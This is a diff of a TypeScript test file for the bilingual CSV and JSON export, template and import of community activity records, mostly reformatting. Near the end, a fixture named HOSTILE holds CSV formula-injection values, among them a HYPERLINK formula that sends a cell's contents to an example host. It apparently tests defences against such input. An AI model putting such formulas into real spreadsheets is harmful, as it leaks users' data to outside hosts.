@@ -19,8 +19,16 @@ import { REPO_ROOT } from "../../support/content-tree.ts";
 const validators = compileValidators();
 const allowList = JSON.parse(readFileSync(path.join(REPO_ROOT, "data/privacy/allow-list.json"), "utf8")) as PrivacyAllowList;
 const context = createSiteContext(runCheck(REPO_ROOT));
-const labels = (lang: "id" | "en"): Labels => (key) => context.t(lang, key);
-const options = (existing: PlanOptions["existing"]): PlanOptions => ({ today: "2030-01-01", validate: validators.activity, allowList, existing });
+const labels =
+  (lang: "id" | "en"): Labels =>
+  (key) =>
+    context.t(lang, key);
+const options = (existing: PlanOptions["existing"]): PlanOptions => ({
+  today: "2030-01-01",
+  validate: validators.activity,
+  allowList,
+  existing,
+});
 const nothingStored = (): PlanOptions["existing"] => ({ hashes: new Set(), names: new Set() });
 const bytes = (text: string) => Buffer.from(text, "utf8");
 /** What the importer would store, without the bookkeeping it adds (source) or that no file carries (draft). */
@@ -34,22 +42,54 @@ describe("the activity export, in each language", () => {
   it("writes the teams' template columns first, headed in the reader's language, then what the site adds", () => {
     const id = activityTable(context.activities, "id", labels("id"));
     const en = activityTable(context.activities, "en", labels("en"));
-    expect(csvText(id).split("\r\n")[0]).toBe("\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25");
-    expect(csvText(en).split("\r\n")[0]).toBe("\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25");
+    expect(csvText(id).split("\r\n")[0]).toBe(
+      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan;Kategori Forum;Pilar;Judul;Judul (EN);Keterangan (EN);Mitra;Peserta di bawah 25",
+    );
+    expect(csvText(en).split("\r\n")[0]).toBe(
+      "\uFEFFNo,Date,Kelurahan,Activity type,Venue,Participants,Men,Women,Notes (Indonesian),Forum category,Pillar,Title (Indonesian),Title,Notes,Partners,Under 25",
+    );
     expect([id.name, id.delimiter, en.name, en.delimiter]).toEqual(["kegiatan.csv", ";", "activities.csv", ","]);
   });
 
   it("writes words people write, never codes, and numbers the rows 1, 2, 3…", () => {
     const id = activityTable([{ ...context.activities[0]!, data: SAMPLE }], "id", labels("id"));
-    expect(id.rows[0]!.slice(0, 11)).toEqual(["1", "04/11/2024", "Jombang", "Sosialisasi", "Majelis Taklim Nurul Falah", "30", "12", "18", "Tanya jawab", "Majelis taklim", "Peningkatan kesadaran"]);
+    expect(id.rows[0]!.slice(0, 11)).toEqual([
+      "1",
+      "04/11/2024",
+      "Jombang",
+      "Sosialisasi",
+      "Majelis Taklim Nurul Falah",
+      "30",
+      "12",
+      "18",
+      "Tanya jawab",
+      "Majelis taklim",
+      "Peningkatan kesadaran",
+    ]);
     const en = activityTable([{ ...context.activities[0]!, data: SAMPLE }], "en", labels("en"));
-    expect(en.rows[0]!.slice(0, 11)).toEqual(["1", "04/11/2024", "Jombang", "Awareness session", "Majelis Taklim Nurul Falah", "30", "12", "18", "Tanya jawab", "Majelis taklim (religious study group)", "Awareness raising"]);
+    expect(en.rows[0]!.slice(0, 11)).toEqual([
+      "1",
+      "04/11/2024",
+      "Jombang",
+      "Awareness session",
+      "Majelis Taklim Nurul Falah",
+      "30",
+      "12",
+      "18",
+      "Tanya jawab",
+      "Majelis taklim (religious study group)",
+      "Awareness raising",
+    ]);
     const all = activityTable(context.activities, "id", labels("id"));
     expect(all.rows.map((row) => row[0])).toEqual(context.activities.map((_, i) => String(i + 1)));
-    const codes = new Set<string>(context.activities.flatMap(({ data }) => [data.kelurahan, data.activityType, data.forum, data.pillar ?? ""]));
+    const codes = new Set<string>(
+      context.activities.flatMap(({ data }) => [data.kelurahan, data.activityType, data.forum, data.pillar ?? ""]),
+    );
     for (const lang of LANGUAGES) {
       const table = activityTable(context.activities, lang, labels(lang));
-      const listed = ["kelurahan", "activityType", "forum", "pillar"].map((key) => ACTIVITY_COLUMNS.findIndex((column) => column.key === key));
+      const listed = ["kelurahan", "activityType", "forum", "pillar"].map((key) =>
+        ACTIVITY_COLUMNS.findIndex((column) => column.key === key),
+      );
       for (const row of table.rows) for (const index of listed) expect(codes.has(row[index]!), `${lang}: ${row[index]}`).toBe(false);
     }
   });
@@ -59,7 +99,14 @@ describe("the activity export, in each language", () => {
       const table = activityTable(context.activities, lang, labels(lang));
       const plan = planImport(bytes(csvText(table)), options(readExistingActivities(REPO_ROOT)));
       expect(plan.summary.errors).toEqual([]);
-      expect(plan.summary).toMatchObject({ total: table.rows.length, imported: 0, keptBack: 0, rejected: 0, blank: 0, delimiter: table.delimiter });
+      expect(plan.summary).toMatchObject({
+        total: table.rows.length,
+        imported: 0,
+        keptBack: 0,
+        rejected: 0,
+        blank: 0,
+        delimiter: table.delimiter,
+      });
       expect(plan.summary.duplicates).toBe(table.rows.length);
       expect(plan.files).toEqual([]);
     });
@@ -92,13 +139,19 @@ describe("the activity export, in each language", () => {
     const plan = planImport(bytes(saved), options(readExistingActivities(REPO_ROOT)));
     expect(plan.summary.errors).toEqual([]);
     expect(plan.summary).toMatchObject({ imported: 1, duplicates: table.rows.length, rejected: 0 });
-    expect(JSON.parse(plan.files[0]!.text)).toMatchObject({ date: "2024-12-05", kelurahan: "muncul", activityType: "community-service", pillar: "social-cohesion" });
+    expect(JSON.parse(plan.files[0]!.text)).toMatchObject({
+      date: "2024-12-05",
+      kelurahan: "muncul",
+      activityType: "community-service",
+      pillar: "social-cohesion",
+    });
   });
 
   it("names every value of every list with words the importer reads back as that value", () => {
     for (const lang of LANGUAGES) {
       for (const name of ["kelurahan", "pillar", "forum"] as const) {
-        for (const code of vocabularyValues(name)) expect(matchVocabulary(name, context.t(lang, `${name}.${code}`)), `${lang} ${name}.${code}`).toBe(code);
+        for (const code of vocabularyValues(name))
+          expect(matchVocabulary(name, context.t(lang, `${name}.${code}`)), `${lang} ${name}.${code}`).toBe(code);
       }
       for (const [type, words] of Object.entries(ACTIVITY_TYPES)) expect(readActivityType(words[lang])?.type, `${lang} ${type}`).toBe(type);
     }
@@ -113,8 +166,40 @@ describe("the activity export, in each language", () => {
 describe("the activity JSON", () => {
   it("keeps the stored codes and ISO dates, named by the stored fields", () => {
     const table = activityDataTable([{ ...context.activities[0]!, data: { ...SAMPLE, partners: ["Kesbangpol", "KUA; Kecamatan"] } }]);
-    expect(table.header).toEqual(["date", "kelurahan", "activityType", "venue", "participants.total", "participants.men", "participants.women", "notes.id", "forum", "pillar", "title.id", "title.en", "notes.en", "partners", "participants.youth"]);
-    expect(table.rows[0]).toEqual(["2024-11-04", "jombang", "socialisation", "Majelis Taklim Nurul Falah", "30", "12", "18", "Tanya jawab", "majelis-taklim", "awareness", "Sosialisasi di Majelis Taklim Nurul Falah", "Awareness session at Majelis Taklim Nurul Falah", "", "Kesbangpol\nKUA; Kecamatan", ""]);
+    expect(table.header).toEqual([
+      "date",
+      "kelurahan",
+      "activityType",
+      "venue",
+      "participants.total",
+      "participants.men",
+      "participants.women",
+      "notes.id",
+      "forum",
+      "pillar",
+      "title.id",
+      "title.en",
+      "notes.en",
+      "partners",
+      "participants.youth",
+    ]);
+    expect(table.rows[0]).toEqual([
+      "2024-11-04",
+      "jombang",
+      "socialisation",
+      "Majelis Taklim Nurul Falah",
+      "30",
+      "12",
+      "18",
+      "Tanya jawab",
+      "majelis-taklim",
+      "awareness",
+      "Sosialisasi di Majelis Taklim Nurul Falah",
+      "Awareness session at Majelis Taklim Nurul Falah",
+      "",
+      "Kesbangpol\nKUA; Kecamatan",
+      "",
+    ]);
   });
 });
 
@@ -123,7 +208,9 @@ describe("the blank template", () => {
   const en = activityTemplate("en", labels("en"));
 
   it("has the teams' own columns only, as their Excel writes them, and one example row", () => {
-    expect(csvText(id)).toBe("\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan\r\nContoh;04/11/2024;Jombang;Sosialisasi;Majelis Taklim Nurul Falah;30;12;18;Dilanjutkan tanya jawab tentang berita bohong di media sosial\r\n");
+    expect(csvText(id)).toBe(
+      "\uFEFFNo;Tanggal;Kelurahan;Jenis Kegiatan;Forum/Tempat;Jumlah Peserta;Laki-laki;Perempuan;Keterangan\r\nContoh;04/11/2024;Jombang;Sosialisasi;Majelis Taklim Nurul Falah;30;12;18;Dilanjutkan tanya jawab tentang berita bohong di media sosial\r\n",
+    );
     expect([id.name, en.name]).toEqual(["templat-kegiatan.csv", "activity-template.csv"]);
     expect(en.header).toEqual(["No", "Date", "Kelurahan", "Activity type", "Venue", "Participants", "Men", "Women", "Notes (Indonesian)"]);
     expect(en.rows[0]!.slice(0, 4)).toEqual(["Example", "04/11/2024", "Jombang", "Awareness session"]);
@@ -141,7 +228,15 @@ describe("the blank template", () => {
       const filled = csvText(template).replace(/\r\n(Contoh|Example)/, "\r\n1");
       const plan = planImport(bytes(filled), options(nothingStored()));
       expect(plan.summary).toMatchObject({ imported: 1, errors: [] });
-      expect(plan.rows[0]!.activity).toMatchObject({ date: "2024-11-04", kelurahan: "jombang", activityType: "socialisation", pillar: "awareness", venue: "Majelis Taklim Nurul Falah", forum: "majelis-taklim", participants: { total: 30, men: 12, women: 18 } });
+      expect(plan.rows[0]!.activity).toMatchObject({
+        date: "2024-11-04",
+        kelurahan: "jombang",
+        activityType: "socialisation",
+        pillar: "awareness",
+        venue: "Majelis Taklim Nurul Falah",
+        forum: "majelis-taklim",
+        participants: { total: 30, men: 12, women: 18 },
+      });
     });
   }
 });
@@ -167,7 +262,7 @@ const HOSTILE: Activity = {
   activityType: "dialogue",
   venue: "-Aula; kantor kelurahan",
   forum: "online",
-  title: { id: "=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")", en: "-2+3 @(1)" },
+  title: { id: '=HYPERLINK("http://example.org/?"&A1,"klik")', en: "-2+3 @(1)" },
   participants: { total: 9, women: 4, men: 5, youth: 2 },
   partners: ["+Kesbangpol; Provinsi"],
   notes: { id: "Baris pertama\n=1+1\n-minus\n'=sudah ada apostrof", en: "@(1)+1" },
